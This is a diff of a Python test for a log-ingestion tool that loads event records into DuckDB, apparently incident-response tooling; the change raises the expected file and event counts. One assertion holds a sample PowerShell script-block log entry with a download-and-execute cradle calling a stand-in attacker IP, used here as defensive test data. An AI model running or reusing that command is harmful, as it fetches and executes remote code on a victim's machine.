@@ -143,9 +143,9 @@ def test_ingest_to_duckdb_counts_everything(tmp_path: Path) -> None:
     seen: list[object] = []
     with duckdb.connect(str(tmp_path / "case.duckdb")) as con:
         summary = ingest_to_duckdb([data], con, on_warning=seen.append)
-        assert summary == IngestSummary(files=5, events=10, warnings=3, sources=10)
+        assert summary == IngestSummary(files=7, events=14, warnings=3, sources=10)
         assert len(seen) == 3
-        assert con.execute("SELECT count(*) FROM events").fetchall() == [(10,)]
+        assert con.execute("SELECT count(*) FROM events").fetchall() == [(14,)]
         assert con.execute(
             "SELECT fields['ScriptBlockText'] FROM events WHERE event_id = ?", [4104]
         ).fetchall() == [("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')",)]
